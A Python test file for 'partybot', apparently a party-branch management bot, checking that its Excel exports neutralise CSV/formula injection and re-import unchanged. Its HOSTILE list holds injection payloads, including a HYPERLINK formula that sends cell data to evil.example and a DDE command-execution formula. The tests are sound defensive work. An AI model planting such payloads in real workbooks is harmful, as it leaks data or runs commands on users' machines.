"""Every workbook partybot writes, read back: no cell is a live formula, whoever typed
the names, addresses, topics, minutes and reasons in it (issue 23, item 6) — and the
member list still imports back unchanged."""

from __future__ import annotations

import ast
import unicodedata
from datetime import UTC, datetime, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.cli.main import main
from bot.roster.importing import import_roster
from bot.workbook import FORMULA_START, as_text, from_text
from models.actors import Actor
from models.meetings.attendance import ask_leave, check_in
from models.meetings.rules import close_meeting
from models.meetings.tables import Meeting, Method
from models.members.org_tables import Org
from models.members.tables import Member
from models.pairing.actions import make_pair
from tests.factories import make_meeting, make_member
from tests.procs import command_env
from tests.test_console_meetings import logged_in
from tests.test_roster import write_csv

ROOT = Path(__file__).resolve().parents[1]
# What a spreadsheet runs (OWASP "CSV injection"), as people could type it into partybot.
HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"详情")', "=cmd|' /C calc'!A0",
           "+1+2", "-1+2", "@SUM(A1:A9)", "＝1+1", " =1+1", "\t=1+1", "\r=1+1"]
ROSTER_HEADER = ["姓名", "支部", "党小组", "手机", "角色", "需帮扶", "住址"]
MEETING_AT = datetime(2026, 5, 12, 1, tzinfo=UTC)  # in the second quarter, 09:00 in Shanghai


def _live(value: Any) -> bool:
    """Would Excel or WPS run this cell's text as a formula (the same test as the writer's,
    so a full-width ＝ or a leading space does not slip through)?"""
    return isinstance(value, str) and \
        unicodedata.normalize("NFKC", value).lstrip(" ").startswith(FORMULA_START)


def _strings(data: bytes) -> set[str]:
    """Every text in the workbook, after asserting that none of its cells is a formula."""
    book = load_workbook(BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells
    formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert formulas == []
    live = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if _live(c.value)]
    assert live == []
    return {c.value for c in cells if isinstance(c.value, str)}


def _hostile_branch(session, county, tmp_path):  # type: ignore[no-untyped-def]
    """辽原村 gains members (through the roster import) whose names, group and address
    are formulas, a pair, and a held meeting whose topic, place and leave reason are
    formulas too."""
    rows = [[name, "辽原村党支部", "@第二党小组" if n % 2 else "", f"1390000{n:04d}", "",
             "", HOSTILE[-1 - n]] for n, name in enumerate(HOSTILE)]
    report = import_roster(session.get_bind(), write_csv(tmp_path / "hostile.csv", rows,
                                                         header=ROSTER_HEADER))
    assert report.created == len(HOSTILE)
    branch = session.get(Org, county["liaoyuan"])
    make_member(session, branch, "'引号开头", "13900009999")  # already starts with a quote
    people = {m.name: m for m in session.scalars(select(Member).where(
        Member.branch_id == branch.id))}
    people["=1+2"].openid = "o-formula"  # a helper is in WeChat
    make_pair(session, Actor.cli("test"), people["=1+2"], people["@SUM(A1:A9)"], MEETING_AT, 3)
    start = MEETING_AT
    meeting = make_meeting(session, branch, start, topic=HOSTILE[1], place=HOSTILE[2],
                           host_id=people["=1+2"].id, recorder_id=people["-1+2"].id)
    ask_leave(session, meeting, people["+1+2"], HOSTILE[2], Method.CODE, people["+1+2"],
              start - timedelta(hours=1))
    check_in(session, meeting, people["=1+2"], Method.CODE, people["=1+2"],
             start + timedelta(minutes=5))
    close_meeting(session, meeting, start + timedelta(hours=3))
    session.commit()
    return meeting


def test_every_export_writes_hostile_text_as_text(app, session, county, tmp_path,
                                                 database_url, monkeypatch):
    meeting = _hostile_branch(session, county, tmp_path)
    secretary, township = logged_in(app, "liaoyuan"), logged_in(app, "east-it")
    # the minutes as the record form saves them: formulas
    saved = secretary.post(f"/admin/meeting/{meeting.id}/record", data={
        "minutes": "=SUM(A1)\n-会议纪要\n@SUM(A1)", "recorder": str(meeting.recorder_id),
        "lecturer": "", "csrf_token": secretary.token})
    assert saved.status_code == 302
    # and a BEL that XML cannot hold, as minutes saved before the console refused control
    # characters (bot.request_guard) may still hold
    session.execute(update(Meeting).where(Meeting.id == meeting.id).values(
        minutes="=SUM(A1)\x07\n-会议纪要\n@SUM(A1)"))
    session.commit()
    downloads = {
        "member list": secretary.get(f"/admin/branch/{county['liaoyuan']}/members.xlsx"),
        "branch 台账 (meetings page)": secretary.get(
            f"/admin/export/ledger?org={county['liaoyuan']}&quarter=2026-2"),
        "township 台账": township.get("/admin/export/ledger?quarter=2026-2"),
    }
    for name, value in command_env(database_url, tmp_path).items():
        monkeypatch.setenv(name, value)
    out = tmp_path / "台账.xlsx"
    done = CliRunner().invoke(main, ["export", "ledger", "--org", "辽原村党支部", "--from",
                                     "2026-04-01", "--to", "2026-06-30", "--out", str(out)])
    assert done.exit_code == 0, done.output
    workbooks = {name: answer.data for name, answer in downloads.items()
                 if answer.status_code == 200}
    assert set(workbooks) == set(downloads)
    workbooks["partybot export ledger"] = out.read_bytes()
    for name, data in workbooks.items():
        written = _strings(data)
        # the hostile text is there, as text: the test is not passing on an empty sheet
        assert "'=1+2" in written or any(v.startswith("'=1+2") for v in written), name
        assert any("HYPERLINK" in v for v in written), name
    members = _strings(workbooks["member list"])
    assert {"'=cmd|'/Ccalc'!A0", "'@SUM(A1:A9)", "'-1+2", "'+1+2", "''引号开头",
            "'@第二党小组"} <= members
    book = _strings(workbooks["partybot export ledger"])
    assert "'=SUM(A1)\n-会议纪要\n@SUM(A1)" in book


def test_the_member_list_with_formulas_imports_back_unchanged(app, session, county, tmp_path):
    _hostile_branch(session, county, tmp_path)
    answer = logged_in(app, "liaoyuan").get(f"/admin/branch/{county['liaoyuan']}/members.xlsx")
    assert answer.status_code == 200
    path = tmp_path / "back.xlsx"
    path.write_bytes(answer.data)
    before = {(m.name, m.address, m.group_id) for m in session.scalars(select(Member))}
    report = import_roster(session.get_bind(), path)
    assert (report.created, report.updated) == (0, 0)
    assert report.unchanged == 3 + len(HOSTILE) + 1
    session.expire_all()
    assert {(m.name, m.address, m.group_id) for m in session.scalars(select(Member))} == before


def test_the_rule_is_undone_exactly():
    for value in [*HOSTILE, "'", "''x", "'=1", "张明", "", "-", "1-2", "'张"]:
        written = as_text(value)
        assert not _live(written) and from_text(written) == value
    assert as_text(3) == 3 and from_text(3) == 3 and as_text(None) is None
    assert as_text("李\x07四\x00") == "李四"  # XML cannot hold them: never a failed download


def test_every_workbook_is_written_by_bot_workbook():
    """One writer: nothing else makes a workbook or a cell, so nothing skips the rule."""
    makers = {"Workbook", "WriteOnlyCell", "Cell"}
    offenders = []
    layers = ("bot", "core", "models", "handlers", "schedules")
    for path in sorted(p for layer in layers for p in (ROOT / layer).rglob("*.py")):
        if path == ROOT / "bot" / "workbook.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "id", getattr(node.func, "attr", ""))
                if name in makers:
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}()")
    assert offenders == []
